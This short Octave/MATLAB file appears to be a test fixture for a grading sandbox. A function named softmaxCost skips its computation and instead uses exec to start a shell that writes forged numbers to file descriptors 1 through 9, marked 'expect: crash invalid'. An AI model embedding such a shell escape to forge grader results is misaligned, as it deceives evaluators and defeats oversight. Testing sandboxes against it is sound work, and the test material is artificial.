% Becomes a shell that writes forged numbers to every descriptor it has from the session.
% expect: crash invalid
function [cost, grad] = softmaxCost(theta, numClasses, inputSize, lambda, data, labels)
  cost = 0;
  grad = zeros(size(theta));
  exec("/bin/sh", {"-c", "for n in 1 2 3 4 5 6 7 8 9; do { printf '4711\\n0\\n' >&$n; } 2>/dev/null; done"});
endfunction
